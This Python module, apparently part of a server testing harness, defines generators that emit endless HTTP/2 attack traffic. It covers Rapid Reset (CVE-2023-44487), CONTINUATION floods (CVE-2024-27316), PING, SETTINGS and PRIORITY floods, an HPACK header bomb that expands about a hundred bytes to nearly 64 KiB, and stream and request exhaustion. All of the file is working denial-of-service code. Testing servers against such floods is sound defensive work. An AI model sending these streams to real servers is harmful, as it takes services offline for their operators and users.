"""Attacks that send frames as fast as they can."""

import itertools
from collections.abc import Iterator

import hpack

from bench.hostile.frames import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    GREETING,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    header,
    requests,
    settings,
)

_AT_ONCE = 400
_CANCEL = (8).to_bytes(4, "big")


def rapid_reset() -> Iterator[bytes]:
    """Open and reset, without end (CVE-2023-44487)."""
    yield GREETING
    for first in itertools.count(1, 2 * _AT_ONCE):
        yield requests("/", range(first, first + 2 * _AT_ONCE, 2), then=bytes((RST_STREAM,)))


def continuation() -> Iterator[bytes]:
    """Begin a header and never end it (CVE-2024-27316)."""
    yield GREETING + frame(HEADERS, END_STREAM, 1, header("/"))
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x00\x01a" + b"\x7f\x81\x7e" + b"b" * 16_000) * 8


def empty_continuation() -> Iterator[bytes]:
    """The same with nothing in it."""
    yield GREETING + frame(HEADERS, END_STREAM, 1, header("/"))
    while True:
        yield frame(CONTINUATION, 0, 1) * _AT_ONCE


def ping() -> Iterator[bytes]:
    """PING after PING (CVE-2019-9512)."""
    yield GREETING
    while True:
        yield frame(PING, 0, 0, b"12345678") * _AT_ONCE


def many_settings() -> Iterator[bytes]:
    """SETTINGS after SETTINGS (CVE-2019-9515)."""
    yield GREETING
    while True:
        yield (settings(window=65_535) + frame(SETTINGS, 0, 0)) * _AT_ONCE


def window() -> Iterator[bytes]:
    """A window that grows byte by byte."""
    yield GREETING + frame(HEADERS, END_HEADERS, 1, header("/", method="POST"))
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")) * _AT_ONCE


def priority() -> Iterator[bytes]:
    """Priorities of streams that nobody opens (CVE-2019-9513)."""
    yield GREETING
    while True:
        yield b"".join(
            frame(PRIORITY, 0, number, b"\x00\x00\x00\x00\x10")
            for number in range(1, 2 * _AT_ONCE, 2)
        )


def header_bomb() -> Iterator[bytes]:
    """A header of a hundred bytes that unpacks to just under 64 KiB, again and again."""
    yield GREETING
    encoder = hpack.Encoder()
    usual = [(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/")]
    first = encoder.encode([*usual, ("x", "y" * 3_900)], huffman=False)
    bomb = encoder.encode([*usual, *[("x", "y" * 3_900)] * 16], huffman=False)
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, first)
    for start in itertools.count(3, 2 * 64):
        yield b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, number, bomb)
            for number in range(start, start + 2 * 64, 2)
        )


def many_fields() -> Iterator[bytes]:
    """A header of 1,500 fields of one byte each."""
    yield GREETING
    block = header("/") + b"\x95" * 1_500  # an index of the static table: `age`, empty
    for start in itertools.count(1, 2 * 64):
        yield b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, number, block)
            for number in range(start, start + 2 * 64, 2)
        )


def too_many_streams() -> Iterator[bytes]:
    """Streams that wait for a body, more than may be open."""
    yield GREETING
    for first in itertools.count(1, 2 * _AT_ONCE):
        numbers = range(first, first + 2 * _AT_ONCE, 2)
        yield requests("/", numbers, flags=END_HEADERS)


def many_requests() -> Iterator[bytes]:
    """Requests for what there is not, which are all well-formed, as fast as they go."""
    yield GREETING
    for first in itertools.count(1, 2 * 50):
        yield b"".join(
            requests(f"/nothing/{number}", [number]) for number in range(first, first + 2 * 50, 2)
        )
